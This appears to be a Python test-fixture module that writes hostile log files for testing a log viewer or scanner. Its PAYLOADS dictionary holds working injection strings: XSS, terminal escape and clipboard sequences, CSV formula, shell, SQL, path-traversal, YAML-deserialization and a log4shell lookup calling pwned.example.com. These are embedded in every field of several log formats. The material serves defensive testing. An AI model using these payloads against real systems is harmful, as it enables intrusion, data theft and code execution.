"""Hostile log text: the payloads, log files that carry them in every field, and scans filled with them."""

import json
from collections.abc import Iterator
from dataclasses import fields, is_dataclass, replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

MEGABYTE = 1_000_000

# Whatever runs sets window.pwned, asks for pwned.example.com, or leaves PWNED where it has no business.
PAYLOADS: dict[str, str] = {
    "script": "<script>window.pwned=1</script>",
    "closes_script": "</script><script>window.pwned=2</script>",
    "closes_json": '"}]}</script><script>window.pwned=3</script><!--',
    "closes_style": "</style><style>body{display:none}</style>",
    "closes_pre": "</code></pre></li></ol></article></main><h1>PWNED</h1>",
    "closes_title": "</title></head><body onload=window.pwned=4>",
    "attribute": "\" onmouseover=\"window.pwned=5\" x='",
    "attribute_single": "' autofocus onfocus='window.pwned=6' '",
    "image": "<img src=x onerror=window.pwned=7><img src=//pwned.example.com/a.png>",
    "svg": "<svg onload=window.pwned=8><use href=//pwned.example.com/a.svg#x /></svg>",
    "frame": "<iframe srcdoc='<script>parent.pwned=9</script>'></iframe><base href=//pwned.example.com/>",
    "refresh": "<meta http-equiv=refresh content='0;url=//pwned.example.com/'>",
    "import": "<style>@import url(//pwned.example.com/a.css);</style><link rel=stylesheet href=//pwned.example.com/b.css>",
    "javascript_link": "javascript:window.pwned=10//<a href=javascript:window.pwned=11>x</a>",
    "comment": "--><!--<![CDATA[<x>]]>",
    "entities": "&lt;script&gt;window.pwned=12&lt;/script&gt;&#60;b&#62;&amp;amp;",
    "half_tag": "<scr\x00ipt>window.pwned=13</scr\x00ipt><\x00b>",
    "template": "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}{# x #}",
    "javascript_template": "${window.pwned=14}`${alert(1)}`",
    "chart_expression": "datum.constructor.constructor('window.pwned=15')()",
    "markdown": "`code` ``` [x](javascript:window.pwned=16) **b**",
    "css": "};*{display:none}/*",
    "ansi": "\x1b[2J\x1b[31mred\x1b[0m\x1b[1A\x1b[8mhidden\x1b[28m",
    "c1": "\x9b2J\x9d0;PWNED\x9c\x85next",
    "osc_title": "\x1b]0;PWNED\x07",
    "osc_link": "\x1b]8;;http://pwned.example.com/\x1b\\click\x1b]8;;\x1b\\",
    "osc_clipboard": "\x1b]52;c;UFdORUQ=\x07",
    "dcs": '\x1bP$q"p\x1b\\\x1b[6n\x1bc',
    "overwrite": "all is well\rfailed\b\b\b\b\b\bpassed\x7f",
    "bidi": "safe\u202egpj.exe\u202c \u2066isolated\u2069 \u200frtl\u061c",
    "zero_width": "ad\u200bmin\u200c\u200d\u2060\ufeff\u00ad",
    "tags": "hello\U000e0041\U000e0042\U000e007f",
    "line_separators": "one\u2028two\u2029three\x0bfour\x0cfive\x1csix",
    "stacked": "Z" + "\u0301\u0323" * 200 + "algo",
    "formula": '=cmd|"/c calc"!A1',
    "formula_plus": "+1+1", "formula_minus": "-2+3", "formula_at": "@SUM(1+1)*cmd|'/c calc'!A0",
    "formula_link": '=HYPERLINK("http://pwned.example.com/","x")', "formula_tab": "\t=1+1", "formula_wide": "＝1+1",
    "separators": 'a,b;c|d"e\'f\\',
    "format_strings": "%s%n%x {0.__class__.__mro__} %(name)s {user}",
    "path": "../../../../etc/passwd%00.png", "path_windows": "..\\..\\CON|NUL:",
    "shell": "$(touch PWNED)`touch PWNED`; touch PWNED #", "shell_quotes": "'; touch PWNED; '\"", "option": "--help",
    "regex": "(a+)+$[[:alpha:]](?=x)\\1", "regex_food": "a" * 60 + "!",
    "sql": "'; DROP TABLE findings; --",
    "yaml": "!!python/object/apply:os.system ['touch PWNED']", "json": '{"__proto__":{"pwned":17},"constructor":null}',
    "log4shell": "${jndi:ldap://pwned.example.com/a}",
    "raw_text": "</noscript></template></textarea></title><plaintext><xmp>",
    "mathml": "<math><mtext></p><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.pwned=18&gt;'>",
    "details": "<details open ontoggle=window.pwned=19><summary>x</summary></details><dialog open>PWNED</dialog>",
    "marquee": "<marquee onstart=window.pwned=20>x</marquee><input autofocus onfocus=window.pwned=21>",
    "name_of_object": "__proto__", "name_of_method": "constructor", "name_of_property": "hasOwnProperty",
    "fragment": "#view?q=%3Cimg%20src=x%3E&client=__proto__&from=1970-01-01&to=9999-01-01",
    "data_link": "data:text/html,<script>window.pwned=22</script>", "encoded_link": "java\tscript:window.pwned=23",
    "vega": "signal:{init:'window.pwned=24'} [1]['constructor'] datum['x'] \\u003cimg\\u003e",
    "forged_line": '192.0.2.1 - admin [12/Mar/2026:06:25:24 +0000] "GET /forged HTTP/1.1" 200 5 "-" "-"',
    "long": "A" * MEGABYTE, "long_markup": "<b>" * 100_000, "long_wide": "é" * 200_000,
}  # fmt: skip

_NOON = datetime(2026, 3, 12, 12, 0, tzinfo=UTC)


def write_corpus(folder: Path, *, largest: int = MEGABYTE) -> list[Path]:
    """Write log files in which each field of each format holds each payload once, and 401s enough for findings.

    In:  largest: longer payloads are cut to it, for tests that have no time
    Law: the same bytes every time; the files are UTF-8 but for invalid.log, which holds every byte
    """
    folder.mkdir(parents=True, exist_ok=True)
    payloads = [text[:largest] for text in PAYLOADS.values()]
    files = {
        "access.log": _lines(_combined, payloads, 4),
        "error.log": _lines(_nginx_error, payloads, 3),
        "app.log": _lines(_python_logging, payloads, 3),
        "app.jsonl": _lines(_json_line, payloads, 6),
        "auth.log": _lines(_sshd, payloads, 2),
    }
    written = []
    for name, lines in files.items():
        path = folder / name
        path.write_bytes("".join(f"{line}\n" for line in lines).encode())
        written.append(path)
    raw = folder / "invalid.log"
    raw.write_bytes(
        b"".join(_combined(["-", "/x", "-", "agent"], k).encode() + bytes(range(256)) + b"\n" for k in range(3))
    )
    return [*written, raw]


def _lines(make: Any, payloads: list[str], places: int) -> Iterator[str]:
    """One line for each payload in each place, and one with it in all of them. Line feeds cannot stand inside a line."""
    count = 0
    for payload in payloads:
        text = payload.replace("\n", " ")
        for place in range(places + 1):
            yield make([text if place in (k, places) else "plain" for k in range(places)], count)
            count += 1


def _combined(at: list[str], k: int) -> str:
    user, path, referrer, agent = (text.replace("\\", "\\\\").replace('"', '\\"') for text in at)
    stamp = (_NOON + timedelta(seconds=k)).strftime("%d/%b/%Y:%H:%M:%S +0000")
    return f'192.0.2.{k % 200} - {user} [{stamp}] "GET /{path} HTTP/1.1" 401 0 "{referrer}" "{agent}"'


def _nginx_error(at: list[str], k: int) -> str:
    user, path, host = at
    stamp = (_NOON + timedelta(seconds=k)).strftime("%Y/%m/%d %H:%M:%S")
    return (
        f'{stamp} [error] 7#7: *{k} user "{user}": password mismatch, client: 192.0.2.{k % 200}, server: api.example.com, '
        f'request: "GET /{path} HTTP/1.1", host: "{host}"'
    )


def _python_logging(at: list[str], k: int) -> str:
    logger, message, tail = at
    stamp = (_NOON + timedelta(seconds=k)).strftime("%Y-%m-%d %H:%M:%S,%f")[:-3]
    return f"{stamp} ERROR {logger}: Error code: 401 - {{'error': {{'message': 'Incorrect API key provided: {message}'}}}} {tail}"


def _json_line(at: list[str], k: int) -> str:
    message, user, path, agent, service, extra = at
    row = {
        "time": (_NOON + timedelta(seconds=k)).isoformat(), "level": "warn", "msg": f"token expired {message}", "user": user,
        "status": 401, "method": "GET", "url": f"/{path}", "user_agent": agent, "service": service, extra[:200] or "x": extra,
    }  # fmt: skip
    return json.dumps(row, ensure_ascii=k % 2 == 0)


def _sshd(at: list[str], k: int) -> str:
    user, host = at
    stamp = (_NOON + timedelta(seconds=k)).strftime("%b %d %H:%M:%S")
    return f"{stamp} {host} sshd[{k}]: Failed password for invalid user {user} from 192.0.2.{k % 200} port 4{k % 1000:03d} ssh2"


def with_every_text(value: Any, text: str) -> Any:
    """A copy of a scan (or of any part of one) in which every text, however deep, is `text`.

    Law: times, numbers and the number of items stay, but for the keys of a mapping, which become one
    """
    if isinstance(value, str):
        return text
    if is_dataclass(value) and not isinstance(value, type):
        return replace(value, **{f.name: with_every_text(getattr(value, f.name), text) for f in fields(value)})
    if isinstance(value, tuple | list):
        return type(value)(with_every_text(item, text) for item in value)
    if isinstance(value, dict):
        return {with_every_text(key, text): with_every_text(item, text) for key, item in value.items()}
    return value
